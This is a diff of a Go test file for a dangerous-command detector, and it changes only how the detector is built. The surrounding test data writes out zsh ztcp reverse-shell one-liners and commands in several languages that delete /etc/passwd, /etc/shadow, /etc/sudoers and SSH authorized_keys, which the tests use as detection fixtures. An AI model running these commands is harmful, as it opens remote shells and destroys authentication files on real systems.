@@ -11,7 +11,7 @@ import (
 // deletion is Critical in any language, a build folder's is what rm -rf
 // build gets (Low), harmless code gets nothing.
 func TestInterpreterLevels(t *testing.T) {
-	d := danger.MustNewDetector(nil)
+	d := danger.Default()
 	level := func(line string) string {
 		l, ok := d.MaxLevel(line)
 		if !ok {
@@ -98,7 +98,7 @@ func TestInterpreterLevels(t *testing.T) {
 // zsh's ztcp: a raw connection is Medium, a shell whose stdio is the
 // connection is a reverse shell.
 func TestZtcp(t *testing.T) {
-	d := danger.MustNewDetector(nil)
+	d := danger.Default()
 	for _, c := range []struct{ line, want string }{
 		{`zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4242 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'`, "reverse_shell_ztcp"},
 		{`zmodload zsh/net/tcp; ztcp -l 4444; ztcp -a $REPLY; zsh <&$REPLY >&$REPLY`, "reverse_shell_ztcp"},
@@ -127,7 +127,7 @@ func contains(list []string, s string) bool {
 // Deleting an auth file is High in the shell and so in interpreter code
 // (os.remove('/etc/passwd') is rm -f -- /etc/passwd).
 func TestRmAuthFile(t *testing.T) {
-	d := danger.MustNewDetector(nil)
+	d := danger.Default()
 	for _, line := range []string{`rm -f /etc/passwd`, `sudo unlink /etc/sudoers`, `rm ~/.ssh/authorized_keys`,
 		`python3 -c "import os; os.remove('/etc/passwd')"`, `sudo lua5.4 -e 'os.remove("/etc/shadow")'`,
 		`ruby -e 'File.delete("/etc/group")'`} {
